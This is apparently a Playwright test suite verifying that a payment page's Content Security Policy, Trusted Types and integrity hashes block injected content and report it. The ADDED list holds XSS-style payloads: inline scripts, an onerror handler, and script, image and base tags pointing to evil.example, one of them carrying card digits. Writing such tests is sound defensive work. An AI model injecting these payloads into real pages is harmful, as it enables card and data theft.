"""What Chromium stops on a page, it reports, and the operator is told. Over https, as in the world:
elsewhere browsers take no address to report to."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Iterator
from typing import Any, Final

import httpx
import pytest
import pytest_asyncio
from playwright.async_api import Browser, BrowserContext, Page, Playwright, Route

from tests.browser.sites import Sites, open_sites
from tests.journeys.plugin import ARGS, BROWSER, launch_options

pytestmark = BROWSER

# A report is not gathered for a minute first.
QUICK: Final = (
    "--host-resolver-rules=MAP * 127.0.0.1",
    "--ignore-certificate-errors",
    "--short-reporting-delay",
)
# What somebody puts into the page on its way: what was stopped, and of what.
ADDED: Final[dict[str, tuple[str, str]]] = {
    "<script>window.stolen = true</script>": ("script-src-elem", "inline"),
    '<script src="https://x.evil.example/a"></script>': ("script-src-elem", "https://evil.example"),
    '<img src="/x" alt="" onerror="window.stolen = true">': ("script-src-attr", "inline"),
    '<img src="https://x.evil.example/?4111" alt="">': ("img-src", "https://evil.example"),
    '<base href="https://x.evil.example/">': ("base-uri", "https://evil.example"),
}


@pytest.fixture(scope="module")
def sites(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sites]:
    with open_sites(tmp_path_factory.mktemp("sites")) as found:
        yield found


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def browser(playwright: Playwright) -> AsyncIterator[Browser]:
    async with await playwright.chromium.launch(**launch_options(args=[*ARGS, *QUICK])) as browser:
        yield browser


@pytest_asyncio.fixture(loop_scope="session")
async def context(browser: Browser) -> AsyncIterator[BrowserContext]:
    found = await browser.new_context(ignore_https_errors=True, locale="en-GB")
    yield found
    await found.close()


class Log:
    """What the server has logged since this was made."""

    def __init__(self, sites: Sites) -> None:
        self._file = sites.folder / "checkout.log"
        self._before = len(self._file.read_text())

    def text(self) -> str:
        return self._file.read_text()[self._before :]

    async def line(self, kind: tuple[str, str]) -> dict[str, Any]:
        for _ in range(150):
            for line in self.text().splitlines():
                found: dict[str, Any] = json.loads(line) if '"policy.' in line else {}
                if (found.get("directive"), found.get("blocked")) == kind:
                    return found
            await asyncio.sleep(0.1)
        pytest.fail(f"{kind} was not reported:\n{self.text()}")


async def change(sites: Sites, page: Page, files: str, old: str, new: str) -> None:
    """Files of ours, changed on their way to the browser; their headers are as we sent them."""

    async def handle(route: Route) -> None:
        at = route.request.url.removeprefix(sites.pay)
        headers = {name: value for name, value in route.request.headers.items() if name != "host"}
        answer = await asyncio.to_thread(
            httpx.get, f"{sites.api}{at}", headers=headers, trust_env=False
        )
        body = answer.text
        assert old in body
        kept = {k: v for k, v in answer.headers.items() if not k.startswith("content-e")}
        await route.fulfill(status=200, headers=kept, body=body.replace(old, new, 1))

    await page.route(files, handle)


async def address(sites: Sites, page: Page) -> str:
    await page.goto(sites.order().url)
    return page.url


@pytest.mark.parametrize(("html", "kind"), ADDED.items(), ids=map("-".join, ADDED.values()))
async def test_what_was_added_is_stopped_and_reported(
    sites: Sites, context: BrowserContext, html: str, kind: tuple[str, str]
) -> None:
    page, log = await context.new_page(), Log(sites)
    url = await address(sites, page)
    await change(sites, page, url, "</body>", f"{html}</body>")
    await page.goto(url, wait_until="load")
    line = await log.line(kind)
    assert (line["page"], line["alert"]) == ("payment", True)
    assert await page.evaluate("window.stolen") is None
    assert url.rpartition("/")[2] not in log.text()
    assert "4111" not in log.text()


async def test_trusted_types_are_reported(sites: Sites, context: BrowserContext) -> None:
    """A text that becomes HTML, by a script of ours that somebody has talked into it."""
    page, log = await context.new_page(), Log(sites)
    await address(sites, page)
    said = await page.evaluate(
        "(() => { try { document.body.innerHTML = '<b>4111</b>' } catch (e) { return e.name } })()"
    )
    assert said == "TypeError"
    line = await log.line(("require-trusted-types-for", "trusted-types-sink"))
    assert (line["page"], line["alert"]) == ("payment", True)
    assert "4111" not in log.text()


async def test_a_changed_script_does_not_run(sites: Sites, context: BrowserContext) -> None:
    """The page says the hashes of its script and its style: a byte more, and neither is used."""
    page = await context.new_page()
    url = await address(sites, page)
    padding = "getComputedStyle(document.querySelector('.card')).padding"
    assert await page.evaluate(padding) != "0px"
    await page.locator("#f-number").press_sequentially("4111111111111111")
    assert await page.locator("#f-number").input_value() == "4111 1111 1111 1111"
    fresh = await context.browser.new_context(ignore_https_errors=True)  # type: ignore[union-attr]
    page = await fresh.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    await change(sites, page, "**/static/*", "", "\n")
    await page.goto(url, wait_until="load")
    assert await page.evaluate(padding) == "0px"
    await page.locator("#f-number").press_sequentially("4111111111111111")
    assert await page.locator("#f-number").input_value() == "4111111111111111"
    assert len([each for each in said if "valid digest" in each]) == 2, said
    await fresh.close()


async def test_in_a_frame_without_an_origin_it_still_looks_right(
    sites: Sites, context: BrowserContext
) -> None:
    """There even our own files are another site's: a hash can be checked of what all may read."""
    page, made = await context.new_page(), sites.order()
    frame = f'<!doctype html><iframe sandbox="allow-scripts" src="{made.url}"></iframe>'
    sites.pages["/sandboxed"] = ("text/html", frame)
    sites.pages["/sandboxed.policy"] = ("", f"frame-src {sites.pay}")
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    await page.goto(f"{sites.shop}/sandboxed", wait_until="networkidle")
    (inner,) = page.main_frame.child_frames
    used = "document.querySelector('link[rel=stylesheet]').sheet !== null"
    assert await inner.evaluate(used)
    assert not [each for each in said if "integrity" in each or "digest" in each], said
